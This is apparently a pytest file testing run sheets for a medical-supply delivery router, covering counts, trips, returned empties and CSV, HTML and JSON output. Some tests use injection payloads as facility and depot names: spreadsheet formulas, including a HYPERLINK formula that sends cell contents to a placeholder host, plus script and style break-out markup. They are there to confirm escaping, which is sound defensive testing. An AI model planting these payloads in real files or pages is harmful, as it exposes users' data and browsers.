"""Run sheets: their counts, safe CSV, a page that holds no live markup."""

import csv
import io
import json
import re
from dataclasses import replace

import pytest

from routing.engines import ENGINES
from routing.model import DAY_S, Budget, Counts, InputError, Plan, Problem, Standing, Trip
from routing.timetable import timetable
from service.runsheet import csv_bytes, html_page, json_bytes, run_sheet, safe_cell


def plan(problem: Problem) -> Plan:
    return timetable(problem, ENGINES["greedy"](problem, Budget(seconds=1)), problem_sha256="c" * 64)


def test_sheets_hold_every_stop_once(world: Problem) -> None:
    """Over all depots, each stop of the plan stands on one sheet, and what is loaded is delivered."""
    made = plan(world)
    sheets = [run_sheet(world, made, depot.id) for depot in world.depots]
    listed = sorted(stop.order_id for s in sheets for trip in s.trips for stop in trip.stops)
    assert listed == sorted(stop.part_id for stop in made.stops)
    for sheet in sheets:
        for trip in sheet.trips:
            assert trip.loaded == sum((stop.delivered for stop in trip.stops), Counts())
            assert trip.begin_s <= trip.end_s <= trip.stops[0].arrive_s <= trip.back_s


def test_trips_of_a_truck_are_numbered(big_order: Problem) -> None:
    """A truck that reloads stands on the sheet once for each trip, in the order of loading."""
    sheet = run_sheet(big_order, plan(big_order), "depot")
    assert [t.begin_s for t in sheet.trips] == sorted(t.begin_s for t in sheet.trips)
    assert len({(t.vehicle_id, t.trip_number) for t in sheet.trips}) == len(sheet.trips) > 1


def test_unknown_depot_is_refused(two_clinics: Problem) -> None:
    """An unknown depot is refused with the list of those there are."""
    with pytest.raises(InputError) as caught:
        run_sheet(two_clinics, plan(two_clinics), "nowhere")
    assert "depot" in caught.value.issues[0].remedy.en


def test_csv_opens_in_a_spreadsheet(two_clinics: Problem) -> None:
    """The CSV has a byte order mark, one line a stop, and its counts add up."""
    data = csv_bytes(run_sheet(two_clinics, plan(two_clinics), "depot"))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert sum(int(row["Giao đầy/Full 40L"]) for row in rows) == 9
    assert rows[0]["Cơ sở/Facility"].startswith("Trạm y tế")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "  =1", "\r=1", "＝1+1"])
def test_what_starts_a_formula_gets_a_quote(text: str) -> None:
    """A quote goes before the whole cell, blanks and all."""
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        'BV Một;=HYPERLINK("http://example.invalid/?"&A1)',
        'BV Một;"=1+1"',
        "TYT, +84",
        "TYT;  -1",
        "TYT\t@x",
        "TYT;\n=1",
        "TYT\r\n=1",
        "a;b;=1;,=2",
        "TYT;\u00a0=1",
        ";;=1",
    ],
)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_live_under_any_separator(text: str, separator: str, two_clinics: Problem) -> None:
    """Whatever a spreadsheet cuts cells at, none begins with a formula, in names and titles alike."""
    facilities = tuple(replace(f, name=text) for f in two_clinics.facilities)
    problem = two_clinics.replace(facilities=facilities)
    data = csv_bytes(run_sheet(problem, plan(problem), "depot")).decode("utf-8-sig")
    # A spreadsheet may also heed no quotation marks at all.
    cells = [cell for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator) for cell in row]
    cells += [cell for line in data.splitlines() for cell in line.split(separator)]
    live = [cell for cell in cells if cell.lstrip(' \t\r\n\u00a0"')[:1] in tuple("=+-@＝") and cell]
    assert not live
    assert any("'" in cell for cell in cells)


def test_harmless_text_stays_as_it_is() -> None:
    """Hyphens, plus signs and addresses inside a text are left alone."""
    for text in ("BV Đa khoa - cơ sở 2", "a+b", "x@y.vn", "07:00–08:00", "Trạm Y tế Trà Linh, Nam Trà My"):
        assert safe_cell(text) == text


def test_page_escapes_names(two_clinics: Problem) -> None:
    """A facility's name cannot bring markup into the page."""
    facilities = tuple(replace(f, name="<script>alert(1)</script>") for f in two_clinics.facilities)
    problem = two_clinics.replace(facilities=facilities)
    page = html_page(run_sheet(problem, plan(problem), "depot"), revision=3)
    assert "<script" not in page
    assert "&lt;script&gt;" in page


def test_page_tells_what_a_driver_needs(two_clinics: Problem) -> None:
    """Plate, revision, hash, counts, signatures and the label stand on the page; no link leaves it."""
    problem = of_standing(two_clinics, Standing.ESTIMATE)
    page = html_page(run_sheet(problem, plan(problem), "depot"), revision=3)
    for wanted in (
        "92C-t1",
        "<dd>3</dd>",
        "c" * 12,
        "9\u00a0×\u00a040L",
        "Ký nhận",
        "tổng hợp/ước tính",
        "synthetic",
    ):
        assert wanted in page
    assert "http" not in page
    assert "src=" not in page


def ends_elsewhere(problem: Problem) -> Problem:
    """Return the day with trucks that load in the west and end at the east depot."""
    trucks = tuple(
        replace(
            v, start_depot_id="west", end_depot_id="east", load_depot_ids=frozenset({"west"}), max_trips=1
        )
        for v in problem.vehicles
    )
    orders = tuple(replace(order, collect=order.deliver) for order in problem.orders)
    return problem.replace(vehicles=trucks, orders=orders)


def test_empties_stand_on_the_sheet_of_the_depot_where_they_end(two_depots: Problem) -> None:
    """A truck that ends at another depot brings its empties there: that sheet lists them, with the time."""
    problem = ends_elsewhere(two_depots)
    made = plan(problem)
    west, east = (run_sheet(problem, made, key) for key in ("west", "east"))
    collected = sum((stop.collected for stop in made.stops), Counts())
    assert collected
    assert (west.returns, west.empties_back) == ((), Counts())
    assert east.empties_back == collected == sum((back.empties for back in east.returns), Counts())
    assert {trip.back_depot_id for trip in west.trips} == {"east"}
    ends = {route.vehicle_id: route.finish.arrive_s for route in made.routes}
    assert [back.at_s for back in east.returns] == [ends[back.vehicle_id] for back in east.returns]
    assert not east.trips
    page, rows = html_page(east), list(csv.DictReader(io.StringIO(csv_bytes(east).decode("utf-8-sig"))))
    assert "Vỏ về kho này" in page
    assert {row["Loại/Kind"] for row in rows} == {"vỏ về/return"}
    assert sum(int(row["Thu rỗng/Empty 40L"]) for row in rows) == collected["40L"]
    assert problem.depot_by_id["east"].name in html_page(west)


def test_each_empty_comes_back_once(world: Problem) -> None:
    """Over all depots, the empties that come back are those collected, each once."""
    made = plan(world)
    sheets = [run_sheet(world, made, depot.id) for depot in world.depots]
    back = sum((sheet.empties_back for sheet in sheets), Counts())
    assert back == sum((stop.collected for stop in made.stops), Counts())


def test_times_past_midnight_have_their_date(two_clinics: Problem) -> None:
    """What happens at 24:30 is told as 00:30 of the next day, on paper and in tables."""
    made = plan(two_clinics)
    late = replace(
        made, routes=tuple(replace(r, trips=tuple(map(_a_day_later, r.trips))) for r in made.routes)
    )
    sheet = run_sheet(two_clinics, late, "depot")
    day, following = two_clinics.date.split("-")[2], int(two_clinics.date.split("-")[2]) + 1
    assert int(day) < 28
    for text in (html_page(sheet), csv_bytes(sheet).decode()):
        assert f"({following:02d}/" in text
        assert not re.search(r"\b(2[4-9]|[3-9]\d):[0-5]\d", text)


def _a_day_later(trip: Trip) -> Trip:
    leg = lambda drive: replace(drive, depart_s=drive.depart_s + DAY_S, arrive_s=drive.arrive_s + DAY_S)  # noqa: E731
    stops = tuple(
        replace(s, leg=leg(s.leg), begin_s=s.begin_s + DAY_S, end_s=s.end_s + DAY_S) for s in trip.stops
    )
    return replace(trip, begin_s=trip.begin_s + DAY_S, end_s=trip.end_s + DAY_S, stops=stops)


def of_standing(problem: Problem, standing: Standing) -> Problem:
    """Return the day with all places of one standing."""
    return problem.replace(
        facilities=tuple(replace(f, standing=standing) for f in problem.facilities),
        depots=tuple(replace(d, standing=standing) for d in problem.depots),
    )


def test_every_printed_page_names_day_depot_and_revision(two_clinics: Problem) -> None:
    """The running head is part of the page's style, whatever letters a depot's name has."""
    name = 'Kho "A" </style><script>\\'
    problem = two_clinics.replace(depots=tuple(replace(d, name=name) for d in two_clinics.depots))
    page = html_page(run_sheet(problem, plan(problem), "depot"), revision=3)
    assert "<script" not in page
    escaped = re.search(r'@top-left \{ content: "((?:\\[0-9a-f]{6})+)"', page)
    assert escaped
    head = "".join(chr(int(letter, 16)) for letter in escaped[1].split("\\")[1:])
    day = "/".join(reversed(problem.date.split("-")))
    assert head == f"{day} · {name} · bản / revision 3"


@pytest.mark.parametrize("standing", Standing)
def test_label_is_for_estimates_and_inventions_only(two_clinics: Problem, standing: Standing) -> None:
    """Where depot and facilities are people's own, sourced or computed there is no label."""
    problem = of_standing(two_clinics, standing)
    sheet = run_sheet(problem, plan(problem), "depot")
    assert sheet.synthetic == (standing in {Standing.ESTIMATE, Standing.SYNTHETIC})
    assert ("synthetic" in html_page(sheet)) == sheet.synthetic


def test_data_without_a_standing_are_peoples_own(two_clinics: Problem) -> None:
    """Nobody's own hospital is called synthetic."""
    assert not run_sheet(two_clinics, plan(two_clinics), "depot").synthetic


def test_empty_sheet_says_so(two_depots: Problem) -> None:
    """A depot at which nothing loads still has a sheet."""
    made = plan(two_depots)
    nothing = replace(made, routes=())
    assert "No trip loads at this depot" in html_page(run_sheet(two_depots, nothing, "west"))
    assert run_sheet(two_depots, nothing, "west").trips == ()


def test_json_is_canonical(two_clinics: Problem) -> None:
    """The JSON form names revision and counts."""
    value = json.loads(json_bytes(run_sheet(two_clinics, plan(two_clinics), "depot"), revision=2))
    assert (value["revision"], value["loaded"], value["depot_id"]) == (2, {"40L": 9}, "depot")
